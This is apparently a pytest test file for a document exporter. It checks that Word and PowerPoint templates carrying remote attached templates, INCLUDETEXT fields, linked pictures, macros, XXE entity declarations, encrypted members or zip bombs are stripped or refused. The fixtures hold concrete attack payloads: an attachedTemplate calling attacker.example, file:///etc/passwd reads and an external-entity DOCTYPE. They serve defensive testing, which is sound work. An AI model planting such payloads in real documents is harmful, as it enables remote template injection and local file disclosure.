"""Templates cannot reach out: no external relationship, fetching field or macro is
carried into an output; parts with entity declarations, encrypted members and zip bombs
are refused with one line; the audit is as careful with the files it opens."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import ARTICLE, ROOT

from exporter.audit import audit_file
from exporter.cli import main
from exporter.errors import AuditError

DOCX = ROOT / "templates" / "default" / "briefing.docx"
PPTX = ROOT / "templates" / "default" / "deck.pptx"
_REL = ('<Relationship Id="{id}" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/{type}" Target="{target}" TargetMode="External"/>')


def _rewritten(source: Path, target: Path,
               changes: dict[str, Callable[[bytes], str | bytes]]) -> Path:
    """A copy of the package ``source`` with members changed (or added) by ``changes``."""
    with zipfile.ZipFile(source) as package:
        members = {name: package.read(name) for name in package.namelist()}
    for name, change in changes.items():
        changed = change(members.get(name, b""))
        members[name] = changed.encode() if isinstance(changed, str) else changed
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in members.items():
            package.writestr(name, data)
    return target


def _add_rels(xml: bytes, *rels: str) -> str:
    text = xml.decode() if xml else ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                                     '<Relationships xmlns="http://schemas.openxmlformats.org/'
                                     'package/2006/relationships"></Relationships>')
    return text.replace("</Relationships>", "".join(rels) + "</Relationships>")


def _build(*args: str) -> tuple[int, list[Path], str]:
    result = CliRunner().invoke(main, ["build", str(ARTICLE), "--jobs", "1", "-a", "analyst",
                                       *args])
    return result.exit_code, [Path(p) for p in result.stdout.split()], result.stderr


def _external_targets(package: Path) -> list[str]:
    with zipfile.ZipFile(package) as archive:
        return [target for name in archive.namelist() if name.endswith(".rels")
                for target in re.findall(r'Target="([^"]*)"[^>]*TargetMode="External"',
                                         archive.read(name).decode())]


def _all_xml(package: Path) -> str:
    with zipfile.ZipFile(package) as archive:
        return "".join(archive.read(name).decode("utf-8", "replace")
                       for name in archive.namelist() if name.endswith((".xml", ".rels")))


def test_a_word_template_that_reaches_out_gives_outputs_that_do_not(tmp_path: Path) -> None:
    def settings(xml: bytes) -> str:
        return xml.decode().replace("<w:zoom", '<w:attachedTemplate r:id="rIdEvil"/><w:zoom', 1)

    def document(xml: bytes) -> str:
        field = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
                 'INCLUDETEXT "file:///etc/passwd"</w:instrText></w:r><w:r><w:fldChar '
                 'w:fldCharType="separate"/></w:r><w:r><w:t>shown text</w:t></w:r><w:r>'
                 '<w:fldChar w:fldCharType="end"/></w:r></w:p>'
                 '<w:p><w:hyperlink r:id="rIdFile"><w:r><w:t>local link</w:t></w:r>'
                 '</w:hyperlink></w:p>')
        return xml.decode().replace("<w:body>", "<w:body>" + field, 1)

    template = _rewritten(DOCX, tmp_path / "reaching.docx", {
        "word/settings.xml": settings,
        "word/_rels/settings.xml.rels": lambda xml: _add_rels(xml, _REL.format(
            id="rIdEvil", type="attachedTemplate", target="http://attacker.example/t.dotm")),
        "word/document.xml": document,
        "word/_rels/document.xml.rels": lambda xml: _add_rels(xml, _REL.format(
            id="rIdFile", type="hyperlink", target="file:///etc/passwd")),
    })
    code, written, stderr = _build("--docx-template", str(template), "-f", "docx",
                                   "-o", str(tmp_path / "o"))
    assert code == 0, stderr
    assert "removed what would reach outside the document" in stderr
    assert "attacker.example" in stderr
    (briefing,) = written
    assert _external_targets(briefing) == [
        t for t in _external_targets(briefing) if t.startswith(("http:", "https:", "mailto:"))]
    text = _all_xml(briefing)
    assert "attacker.example" not in text and "file:///etc/passwd" not in text
    assert "INCLUDETEXT" not in text and "attachedTemplate" not in text
    assert "shown text" in text and "local link" in text


def test_a_deck_template_with_linked_pictures_and_macros_gives_plain_decks(
        tmp_path: Path) -> None:
    def layout(xml: bytes) -> str:
        picture = ('<p:pic><p:nvPicPr><p:cNvPr id="99" name="Linked"/><p:cNvPicPr/><p:nvPr/>'
                   '</p:nvPicPr><p:blipFill><a:blip r:link="rIdLinked"/></p:blipFill><p:spPr>'
                   '<a:xfrm><a:off x="0" y="0"/><a:ext cx="10" cy="10"/></a:xfrm></p:spPr>'
                   '</p:pic>')
        return xml.decode().replace("</p:spTree>", picture + "</p:spTree>", 1)

    template = _rewritten(PPTX, tmp_path / "renamed.pptx", {
        "ppt/slideLayouts/slideLayout1.xml": layout,
        "ppt/slideLayouts/_rels/slideLayout1.xml.rels": lambda xml: _add_rels(
            xml, _REL.format(id="rIdLinked", type="image", target="file:///secret.png")),
        "ppt/_rels/presentation.xml.rels": lambda xml: xml.decode().replace(
            "</Relationships>", '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/'
            'office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>'),
        "ppt/vbaProject.bin": lambda _: b"macro code",
    })
    code, written, stderr = _build("--pptx-template", str(template), "-f", "pptx",
                                   "-o", str(tmp_path / "o"))
    assert code == 0, stderr
    assert "macros" in stderr and "file:///secret.png" in stderr
    (deck,) = written
    assert not _external_targets(deck)
    with zipfile.ZipFile(deck) as archive:
        assert not [name for name in archive.namelist() if "vba" in name.lower()]
    assert "rIdLinked" not in _all_xml(deck)


@pytest.mark.parametrize("part", ["word/styles.xml", "word/header1.xml",
                                  "word/_rels/document.xml.rels", "[Content_Types].xml",
                                  "docProps/core.xml"])
def test_a_part_with_entity_declarations_is_refused(tmp_path: Path, part: str) -> None:
    def doctype(xml: bytes) -> str:
        text = xml.decode()
        declaration = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        return re.sub(r"(<\?xml[^>]*\?>)", r"\1" + declaration, text, count=1) \
            if text.startswith("<?xml") else declaration + text

    template = _rewritten(DOCX, tmp_path / "entities.docx", {part: doctype})
    code, written, stderr = _build("--docx-template", str(template), "-f", "docx",
                                   "-o", str(tmp_path / "o"))
    assert code == 1 and not written
    (line,) = stderr.strip().splitlines()
    assert line.startswith("Error: ") and part in line and "DOCTYPE" in line
    with pytest.raises(AuditError, match="DOCTYPE"):
        audit_file(template)


def test_an_encrypted_member_is_called_so(tmp_path: Path) -> None:
    data = bytearray(PPTX.read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        name = archive.infolist()[1].filename.encode()
    # Set the encryption flag (bit 0 of the flags) in the member's central directory entry.
    offset = data.find(b"PK\x01\x02")
    while data[offset + 46:offset + 46 + len(name)] != name:
        offset = data.find(b"PK\x01\x02", offset + 4)
        assert offset != -1
    data[offset + 8] |= 0x1
    template = tmp_path / "encrypted.pptx"
    template.write_bytes(bytes(data))
    code, _, stderr = _build("--pptx-template", str(template), "-f", "pptx",
                             "-o", str(tmp_path / "o"))
    assert code == 1 and "password-protected or encrypted" in stderr
    assert "Traceback" not in stderr


def test_the_audit_refuses_a_zip_bomb(tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.docx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"\0" * (300 * 1024 * 1024))
    with pytest.raises(AuditError, match=r"zip bomb|over the limit"):
        audit_file(bomb)


def test_a_presentation_without_a_master_is_a_one_line_error(tmp_path: Path) -> None:
    def without_masters(xml: bytes) -> str:
        return re.sub(r"<p:sldMasterIdLst>.*?</p:sldMasterIdLst>", "", xml.decode(), flags=re.S)

    template = _rewritten(PPTX, tmp_path / "masterless.pptx",
                          {"ppt/presentation.xml": without_masters})
    code, _, stderr = _build("--pptx-template", str(template), "-f", "pptx",
                             "-o", str(tmp_path / "o"))
    assert code == 1 and "Traceback" not in stderr
    (line,) = stderr.strip().splitlines()
    assert "masterless.pptx" in line
